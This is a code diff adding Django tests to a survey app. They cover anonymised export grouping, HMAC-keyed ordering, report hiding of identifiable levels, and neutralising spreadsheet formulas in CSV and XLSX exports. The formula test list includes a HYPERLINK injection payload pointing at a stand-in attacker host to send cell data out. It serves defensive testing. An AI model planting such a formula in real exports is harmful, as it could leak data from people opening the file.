@@ -10,6 +10,7 @@ from pypdf import PdfReader
 from accounts.tests.factories import ProgrammeLeaderFactory
 from municipalities.tests.factories import MunicipalityGroupFactory
 from portfolios.tests.factories import PortfolioFactory
+from surveys.exports import answer_table
 from surveys.models import Category, Question, Survey
 from surveys.services import survey_copy
 from surveys.tests.factories import answer, evaluation_survey, invite
@@ -152,3 +153,111 @@ def test_a_copied_survey_keeps_its_questions_keys_and_can_be_compared(leader_cli
     assert '<th scope="row">2</th><td>1</td><td>100 %</td>' in html
     assert Survey.objects.count() == 2
     assert Question.objects.filter(key="forankring").count() == 2
+
+
+def _export_rows(client, survey, extension):
+    response = client.get(f"/sporreundersokelse/{survey.pk}/svar.{extension}")
+    assert response.status_code == 200
+    if extension == "csv":
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    return load_workbook(io.BytesIO(response.content)).active
+
+
+def test_the_anonymous_export_merges_levels_with_fewer_than_3_respondents(leader_client):
+    survey = evaluation_survey(PortfolioFactory())
+    text = survey.questions.get(key="mest_nyttig")
+    roles = ["leader"] * 3 + ["resource_teacher"] * 3 + ["owner_political", "coordinator", "coordinator"]
+    for i, role in enumerate(roles):
+        invitation, _ = invite(survey, role=role)
+        answer(invitation, {text: f"Svar {i}"})
+    rows = _export_rows(leader_client, survey, "csv")
+    levels = sorted(r[1] for r in rows[1:])
+    assert levels == ["Annet (færre enn 3)"] * 3 + ["Leder"] * 3 + ["Lærer"] * 3
+
+
+def test_a_lone_small_level_is_merged_with_the_next_smallest(leader_client):
+    survey = evaluation_survey(PortfolioFactory())
+    text = survey.questions.get(key="mest_nyttig")
+    for i, role in enumerate(["leader"] * 3 + ["resource_teacher"] * 4 + ["coordinator"]):
+        invitation, _ = invite(survey, role=role)
+        answer(invitation, {text: f"Svar {i}"})
+    levels = sorted(r[1] for r in _export_rows(leader_client, survey, "csv")[1:])
+    assert levels == ["Annet (færre enn 3)"] * 4 + ["Lærer"] * 4
+
+
+def test_the_anonymous_export_is_ordered_by_a_keyed_hash_not_a_public_seed(leader_client, settings):
+    import hashlib
+    import hmac
+
+    survey = evaluation_survey(PortfolioFactory())
+    text = survey.questions.get(key="mest_nyttig")
+    by_text = {}
+    for i in range(8):
+        invitation, _ = invite(survey)
+        by_text[f"Svar {i}"] = answer(invitation, {text: f"Svar {i}"}).pk
+
+    def order(key):
+        def digest(pk):
+            return hmac.new(key.encode(), f"surveys.export:{survey.pk}:{pk}".encode(), hashlib.sha256).digest()
+
+        return sorted(by_text.values(), key=digest)
+
+    def exported():
+        header, rows = answer_table(survey)
+        return [by_text[r[header.index("mest_nyttig")]] for r in rows]
+
+    csv_rows = _export_rows(leader_client, survey, "csv")
+    assert [by_text[r[csv_rows[0].index("mest_nyttig")]] for r in csv_rows[1:]] == order(settings.SECRET_KEY)
+    assert exported() == exported()  # the same file from one download to the next
+    # Another key, another order: only the secret key gives it.
+    settings.SECRET_KEY = "en-annen-hemmelig-nokkel-" + "x" * 40
+    assert exported() == order(settings.SECRET_KEY)
+    assert exported() != order("django-insecure-" + "y" * 40)
+
+
+FORMULAS = ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")', "+1+2", "-2+3", "@SUM(1;2)"]
+
+
+def _fill_with_formulas(survey):
+    text = survey.questions.get(key="mest_nyttig")
+    for formula in FORMULAS:
+        invitation, _ = invite(survey)
+        answer(invitation, {text: formula})
+    return text
+
+
+def test_the_csv_export_neutralises_formulas(leader_client):
+    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
+    _fill_with_formulas(survey)
+    rows = _export_rows(leader_client, survey, "csv")
+    column = rows[0].index("mest_nyttig")
+    assert sorted(r[column] for r in rows[1:]) == sorted("'" + f for f in FORMULAS)
+
+
+def test_the_xlsx_export_stores_formulas_as_text(leader_client):
+    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
+    _fill_with_formulas(survey)
+    sheet = _export_rows(leader_client, survey, "xlsx")
+    header = [c.value for c in sheet[1]]
+    column = header.index("mest_nyttig") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, 2 + len(FORMULAS))]
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)
+    assert {c.data_type for c in cells} == {"s"}
+
+
+def test_the_report_and_its_pdf_hide_a_level_that_could_be_worked_out(leader_client):
+    survey = evaluation_survey(PortfolioFactory())
+    scale = survey.questions.get(key="forankring")
+    for role, value in [("leader", "5"), ("leader", "5"), ("leader", "6"), ("coordinator", "1")]:
+        invitation, _ = invite(survey, role=role)
+        answer(invitation, {scale: value})
+    html = leader_client.get(f"/sporreundersokelse/{survey.pk}/rapport/").content.decode()
+    response = leader_client.get(f"/sporreundersokelse/{survey.pk}/rapport.pdf")
+    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.content)).pages)
+    for shown in (html, text):
+        assert "skjult" in shown
+        assert "færre enn 3" in shown
+        # The coordinator's column would read «1 (100 %)», the leaders' «5 2 (67 %)».
+        assert "(100 %)" not in shown
+        assert "(67 %)" not in shown
+        assert "(50 %)" in shown  # the total is still shown: 5 twice out of 4
